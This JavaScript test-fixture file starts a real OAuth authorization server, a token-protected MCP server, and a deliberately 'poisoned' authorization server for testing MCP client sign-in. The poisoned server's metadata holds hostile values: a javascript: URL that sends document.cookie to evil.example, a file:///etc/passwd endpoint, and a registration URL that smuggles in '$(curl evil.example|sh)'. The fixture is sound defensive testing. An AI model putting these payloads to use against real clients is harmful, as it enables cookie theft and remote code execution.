// Real servers for the MCP sign-in tests: an OAuth 2.1 authorization server (oidc-provider, with
// dynamic client registration, PKCE required, short-lived access tokens and refresh-token
// rotation), an MCP server (the SDK's McpServer on its Streamable HTTP transport) that serves only
// bearers of a token the authorization server vouches for, and an authorization server whose
// metadata is poisoned. Each listens on a free loopback port.

import { createServer } from 'node:http';
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
import { StreamableHTTPServerTransport } from '@modelcontextprotocol/sdk/server/streamableHttp.js';
import Provider, { errors } from 'oidc-provider';

/** The MCP server's own client at the authorization server, for introspection. */
const RESOURCE_SERVER_CLIENT = { id: 'mcp-notes-server', secret: 'introspection-secret-for-tests' };
/** The one scope the MCP server asks for. */
const MCP_SCOPE = 'notes';
/** A refresh token outlives the test many times over: only rotation retires it. */
const REFRESH_TOKEN_SECONDS = 3600;

const listen = (server) =>
  new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${server.address().port}`)));
const close = (server) =>
  new Promise((resolve) => {
    server.closeAllConnections();
    server.close(() => resolve());
  });

/** The answers a browser page needs to call a server of another origin. */
function allowPages(req, res, headers) {
  res.setHeader('Access-Control-Allow-Origin', '*');
  res.setHeader('Access-Control-Expose-Headers', 'mcp-session-id, www-authenticate');
  if (req.method !== 'OPTIONS') return false;
  res.writeHead(204, {
    'Access-Control-Allow-Methods': 'GET, POST, DELETE, OPTIONS',
    'Access-Control-Allow-Headers': headers,
    'Access-Control-Max-Age': '600',
  });
  res.end();
  return true;
}

/** The authorization server. `log` records every token-endpoint grant: refreshes, and each
 * refresh token presented with what became of it. */
export async function startAuthorizationServer({ accessTokenSeconds }) {
  const http = createServer();
  const issuer = await listen(http);
  const log = { refreshes: 0, reuseErrors: 0, refreshTokensPresented: [], grantErrors: [], codeExchanges: 0 };
  let resource;
  const provider = new Provider(issuer, {
    clients: [
      {
        client_id: RESOURCE_SERVER_CLIENT.id,
        client_secret: RESOURCE_SERVER_CLIENT.secret,
        grant_types: [],
        response_types: [],
        redirect_uris: [],
      },
    ],
    scopes: [MCP_SCOPE],
    cookies: { keys: ['cookie-key-for-tests-only'] },
    pkce: { required: () => true },
    rotateRefreshToken: true,
    issueRefreshToken: async (_ctx, client) => client.grantTypeAllowed('refresh_token'),
    ttl: { RefreshToken: REFRESH_TOKEN_SECONDS },
    features: {
      devInteractions: { enabled: true },
      registration: { enabled: true },
      introspection: { enabled: true },
      resourceIndicators: {
        enabled: true,
        defaultResource: () => resource,
        useGrantedResource: () => true,
        getResourceServerInfo: (_ctx, requested) => {
          if (requested !== resource) throw new errors.InvalidTarget();
          return { scope: MCP_SCOPE, audience: resource, accessTokenTTL: accessTokenSeconds, accessTokenFormat: 'opaque' };
        },
      },
    },
  });
  const noteGrant = (ctx, error) => {
    const { grant_type: grantType, refresh_token: refreshToken } = ctx.oidc.params ?? {};
    if (grantType === 'authorization_code' && !error) log.codeExchanges += 1;
    if (grantType !== 'refresh_token') return;
    log.refreshTokensPresented.push(refreshToken);
    if (!error) log.refreshes += 1;
    else {
      log.grantErrors.push(`${error.error}: ${error.error_detail ?? error.error_description}`);
      if (error.error_detail === 'refresh token already used') log.reuseErrors += 1;
    }
  };
  provider.on('grant.success', (ctx) => noteGrant(ctx));
  provider.on('grant.error', (ctx, error) => noteGrant(ctx, error));
  const handle = provider.callback();
  // oidc-provider answers pages on its discovery and token routes; its registration route it leaves
  // to a deployment's gateway, which this stands in for.
  http.on('request', (req, res) => {
    if (allowPages(req, res, 'content-type, mcp-protocol-version')) return;
    handle(req, res);
  });
  return {
    issuer,
    log,
    /** The MCP server the tokens are for (the audience they carry). */
    setResource: (url) => (resource = url),
    close: () => close(http),
  };
}

/** An authorization server whose metadata names a script, a file and shell commands; it counts
 * every request beyond its metadata (a client that followed it). */
export async function startPoisonedAuthorizationServer() {
  const http = createServer();
  const issuer = await listen(http);
  const followed = [];
  http.on('request', (req, res) => {
    if (allowPages(req, res, 'content-type, mcp-protocol-version')) return;
    const path = new URL(req.url, issuer).pathname;
    if (path.startsWith('/.well-known/')) {
      res.writeHead(200, { 'Content-Type': 'application/json' });
      res.end(
        JSON.stringify({
          issuer,
          authorization_endpoint: 'javascript:fetch("https://evil.example/?c="+document.cookie)',
          token_endpoint: 'file:///etc/passwd',
          registration_endpoint: `${issuer}/register$(curl evil.example|sh)`,
          response_types_supported: ['code'],
          code_challenge_methods_supported: ['S256'],
        }),
      );
      return;
    }
    followed.push(`${req.method} ${path}`);
    res.writeHead(404).end();
  });
  return { issuer, followed, close: () => close(http) };
}

async function introspect(issuer, token) {
  const answer = await fetch(`${issuer}/token/introspection`, {
    method: 'POST',
    headers: {
      'Content-Type': 'application/x-www-form-urlencoded',
      Authorization: `Basic ${Buffer.from(`${RESOURCE_SERVER_CLIENT.id}:${RESOURCE_SERVER_CLIENT.secret}`).toString('base64')}`,
    },
    body: new URLSearchParams({ token }),
  });
  return answer.ok ? answer.json() : { active: false };
}

/** The MCP server: a `whoami` tool, served only to bearers of an active token issued for it by
 * `issuer`. Anyone else gets 401 with the address of its protected-resource metadata. */
export async function startProtectedMcpServer({ issuer }) {
  const http = createServer();
  const origin = await listen(http);
  const url = `${origin}/mcp`;
  const metadataUrl = `${origin}/.well-known/oauth-protected-resource`;
  const counts = { refused: 0, served: 0, toolCalls: 0 };
  const toolServer = (subject) => {
    const server = new McpServer({ name: 'notes', version: '1.0.0' });
    server.registerTool('whoami', { description: 'Says who is signed in.' }, async () => {
      counts.toolCalls += 1;
      return { content: [{ type: 'text', text: `Signed in as ${subject}` }] };
    });
    return server;
  };
  http.on('request', async (req, res) => {
    if (allowPages(req, res, 'authorization, content-type, mcp-protocol-version, mcp-session-id, last-event-id')) return;
    const path = new URL(req.url, origin).pathname;
    if (path.startsWith('/.well-known/oauth-protected-resource')) {
      res.writeHead(200, { 'Content-Type': 'application/json' });
      res.end(JSON.stringify({ resource: url, authorization_servers: [issuer], scopes_supported: [MCP_SCOPE], bearer_methods_supported: ['header'] }));
      return;
    }
    if (path !== '/mcp') return void res.writeHead(404).end();
    const token = /^Bearer (.+)$/.exec(req.headers.authorization ?? '')?.[1];
    const grant = token ? await introspect(issuer, token) : { active: false };
    const audiences = [grant.aud ?? []].flat();
    if (!grant.active || !audiences.includes(url)) {
      counts.refused += 1;
      res.writeHead(401, {
        'WWW-Authenticate': `Bearer error="invalid_token", resource_metadata="${metadataUrl}", scope="${MCP_SCOPE}"`,
        'Content-Type': 'application/json',
      });
      res.end(JSON.stringify({ error: 'invalid_token' }));
      return;
    }
    counts.served += 1;
    if (req.method !== 'POST') return void res.writeHead(405, { Allow: 'POST' }).end();
    // Stateless: a server and a transport for each request, so no session outlives its token.
    const server = toolServer(grant.sub);
    const transport = new StreamableHTTPServerTransport({ sessionIdGenerator: undefined, enableJsonResponse: true });
    res.on('close', () => void server.close());
    await server.connect(transport);
    await transport.handleRequest(req, res);
  });
  return { url, counts, close: () => close(http) };
}
